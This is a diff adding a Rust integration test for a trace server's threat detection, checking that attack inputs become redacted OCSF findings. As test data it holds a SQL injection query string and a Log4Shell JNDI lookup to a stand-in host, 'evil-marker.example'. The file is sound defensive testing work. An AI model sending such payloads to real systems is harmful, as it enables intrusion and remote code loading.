@@ -1,0 +1,280 @@
+//! Threat detection end to end (issue 7): signature rules run on the decoded batch before
+//! redaction in the real server; findings are OCSF Detection Findings with redacted evidence,
+//! committed with their batch (so they show in the trace), deduplicated on client retries,
+//! written to the JSON Lines sink by severity, counted in /metrics and queryable at
+//! `GET /api/findings`; and the labeled evaluation sets sent through the real ingest path give the
+//! same per-class results as `tracevault eval detect`.
+
+mod common;
+
+use std::collections::{BTreeMap, HashSet};
+use std::path::PathBuf;
+
+use common::*;
+use prost::Message;
+use tv_model::otlp::*;
+
+fn span(tid: [u8; 16], name: &str, attrs: Vec<KeyValue>) -> Span {
+    let now = now_nanos();
+    Span {
+        trace_id: tid.to_vec(),
+        span_id: random_id::<8>().to_vec(),
+        name: name.into(),
+        kind: 2,
+        start_time_unix_nano: now - 2_000_000,
+        end_time_unix_nano: now,
+        attributes: attrs,
+        ..Default::default()
+    }
+}
+
+fn batch(service: &str, spans: Vec<Span>) -> ExportTraceServiceRequest {
+    ExportTraceServiceRequest {
+        resource_spans: vec![ResourceSpans {
+            resource: Some(Resource {
+                attributes: vec![kv("service.name", sv(service))],
+                ..Default::default()
+            }),
+            scope_spans: vec![ScopeSpans {
+                spans,
+                ..Default::default()
+            }],
+            ..Default::default()
+        }],
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_become_ocsf_findings_with_redacted_evidence() {
+    let tmp = tempfile::tempdir().unwrap();
+    let sink = tmp.path().join("sink/findings.jsonl");
+    let config = format!(
+        "version = 1\n[detection]\njsonl_file = \"{}\"\njsonl_min_severity = \"critical\"\n",
+        sink.display()
+    );
+    let (srv, _) = start_with_config(tmp, &config, &[]);
+    let tid = random_id::<16>();
+    let req = batch(
+        "shop",
+        vec![
+            span(
+                tid,
+                "GET /search",
+                vec![
+                    kv("http.request.method", sv("GET")),
+                    kv("url.path", sv("/search")),
+                    kv(
+                        "url.query",
+                        sv("q=1%27%20UNION%20SELECT%20secretcolumn%20FROM%20users--"),
+                    ),
+                ],
+            ),
+            span(
+                tid,
+                "GET /",
+                vec![kv(
+                    "user_agent.original",
+                    sv("${jndi:ldap://evil-marker.example/a}"),
+                )],
+            ),
+            span(
+                tid,
+                "GET /shoes",
+                vec![
+                    kv("url.path", sv("/shoes")),
+                    kv("url.query", sv("q=red+running+shoes&size=42")),
+                ],
+            ),
+        ],
+    );
+    let r = srv
+        .post_otlp("application/x-protobuf", req.encode_to_vec())
+        .await;
+    assert_eq!(r.status(), 200);
+    // A client retry of the same batch: no second set of findings.
+    let r = srv
+        .post_otlp("application/x-protobuf", req.encode_to_vec())
+        .await;
+    assert_eq!(r.status(), 200);
+
+    let resp = srv.get("/api/findings").await;
+    assert_eq!(resp.status(), 200);
+    let text = resp.text().await.unwrap();
+    // Evidence never carries the raw values.
+    for raw in ["secretcolumn", "evil-marker", "jndi:ldap"] {
+        assert!(!text.contains(raw), "raw value {raw} in findings: {text}");
+    }
+    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
+    let findings = v["findings"].as_array().unwrap();
+    let rules: HashSet<&str> = findings
+        .iter()
+        .map(|f| f["finding_info"]["analytic"]["uid"].as_str().unwrap())
+        .collect();
+    assert!(rules.contains("tv-log4shell-lookup"), "{rules:?}");
+    assert!(rules.iter().any(|r| r.starts_with("tv-sqli")), "{rules:?}");
+    let uids: HashSet<&str> = findings
+        .iter()
+        .map(|f| f["finding_info"]["uid"].as_str().unwrap())
+        .collect();
+    assert_eq!(uids.len(), findings.len(), "retry duplicated findings");
+    for f in findings {
+        assert_eq!(f["class_uid"], 2004);
+        assert_eq!(f["type_uid"], 200401);
+        assert_eq!(
+            f["finding_info"]["related_events"][0]["trace_uid"],
+            hex::encode(tid)
+        );
+        assert_eq!(f["resources"][0]["name"], "shop");
+        assert!(
+            f["actor"]["user"]["uid"]
+                .as_str()
+                .unwrap()
+                .starts_with("token:"),
+            "{f}"
+        );
+        assert_ne!(
+            f["resources"][0]["data"]["operation"], "GET /shoes",
+            "benign span flagged"
+        );
+    }
+    let log4shell = findings
+        .iter()
+        .find(|f| f["finding_info"]["analytic"]["uid"] == "tv-log4shell-lookup")
+        .unwrap();
+    assert_eq!(log4shell["severity"], "Critical");
+    let ev = &log4shell["evidences"][0]["data"];
+    assert_eq!(ev["field"], "tv.input");
+    assert!(ev["value_length"].as_u64().unwrap() > 10, "{ev}");
+    // Grouped: one group per rule and operation, each counted.
+    assert!(!v["groups"].as_array().unwrap().is_empty());
+
+    // Filters, and a bad filter gets a clear error.
+    let high = srv.get_json("/api/findings?min_severity=critical").await;
+    assert!(
+        high["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|f| f["severity"] == "Critical")
+    );
+    let r = srv.get("/api/findings?min_severity=severe").await;
+    assert_eq!(r.status(), 400);
+    assert!(r.text().await.unwrap().contains("min_severity"));
+
+    // Linked from the trace: the finding is stored in it, under tracevault.findings.
+    let trace = srv
+        .get_json(&format!("/api/traces/{}", hex::encode(tid)))
+        .await;
+    assert!(
+        trace.to_string().contains("tracevault.findings"),
+        "finding not in the trace"
+    );
+
+    // The sink got the critical finding only, as OCSF JSON lines.
+    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&sink)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(!lines.is_empty());
+    assert!(lines.iter().all(|l| l["class_uid"] == 2004 && l["severity"] == "Critical"));
+    assert!(!std::fs::read_to_string(&sink).unwrap().contains("evil-marker"));
+
+    let metrics = srv.get("/metrics").await.text().await.unwrap();
+    assert!(
+        metrics.contains("tracevault_findings_total{stage=\"signature\",severity=\"critical\"}"),
+        "{metrics}"
+    );
+}
+
+fn evaldata() -> Option<PathBuf> {
+    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/evaldata");
+    if p.is_dir() {
+        return Some(p);
+    }
+    assert!(
+        std::env::var("CI").as_deref() != Ok("true"),
+        "../shared/evaldata is missing (required under CI=true)"
+    );
+    eprintln!("SKIPPED: ../shared/evaldata not found at {}", p.display());
+    None
+}
+
+/// The CRS positives of the four required categories and the benign URL set, sent as OTLP
+/// through the server: every case's trace is then read back, and a case counts as flagged when
+/// its trace holds a finding. The per-class counts must equal the library evaluation's.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn evaluation_sets_through_the_real_ingest_path() {
+    let Some(root) = evaldata() else { return };
+    let mut cases = tv_detect::evalset::crs(
+        &root.join("crs-regression/tests"),
+        &["930", "931", "932", "941", "942"],
+    )
+    .unwrap();
+    cases.extend(tv_detect::evalset::libinjection_benign(&root.join("libinjection")).unwrap());
+    let expected = tv_detect::evalset::run(
+        &tv_detect::Signatures::new(tv_detect::rules::RuleSet::builtin()),
+        &cases,
+    );
+    // Fresh ids and current times (the server refuses spans from 1970).
+    let now = now_nanos();
+    let mut traces = Vec::new();
+    for c in &mut cases {
+        let tid = random_id::<16>();
+        for rs in &mut c.req.resource_spans {
+            for ss in &mut rs.scope_spans {
+                for s in &mut ss.spans {
+                    s.trace_id = tid.to_vec();
+                    s.start_time_unix_nano = now - 1_000_000;
+                    s.end_time_unix_nano = now;
+                }
+            }
+        }
+        traces.push(tid);
+    }
+    let srv = Server::start(&[]);
+    for chunk in cases.chunks(200) {
+        let req = ExportTraceServiceRequest {
+            resource_spans: chunk
+                .iter()
+                .flat_map(|c| c.req.resource_spans.clone())
+                .collect(),
+        };
+        let r = srv
+            .post_otlp("application/x-protobuf", req.encode_to_vec())
+            .await;
+        assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
+    }
+    let c = srv.http_client();
+    let mut got: BTreeMap<(String, String), (usize, usize)> = BTreeMap::new();
+    for (case, tid) in cases.iter().zip(&traces) {
+        let r = c
+            .get(format!("{}/api/traces/{}", srv.api, hex::encode(tid)))
+            .bearer_auth(srv.token())
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 200);
+        let text = r.text().await.unwrap();
+        let e = got
+            .entry((case.set.to_owned(), case.class.clone()))
+            .or_default();
+        e.0 += 1;
+        if text.contains("tracevault.findings") {
+            e.1 += 1;
+        }
+    }
+    println!("set            class        cases  flagged (real ingest path)");
+    for ((set, class), (n, flagged)) in &got {
+        println!(
+            "{set:<14} {class:<10} {n:>7} {flagged:>8}  {:>6.2}%",
+            100.0 * *flagged as f64 / *n as f64
+        );
+    }
+    let want: BTreeMap<(String, String), (usize, usize)> = expected
+        .by_class()
+        .into_iter()
+        .map(|(k, c)| (k, (c.total, c.flagged)))
+        .collect();
+    assert_eq!(got, want, "the ingest path and the evaluation disagree");
+}
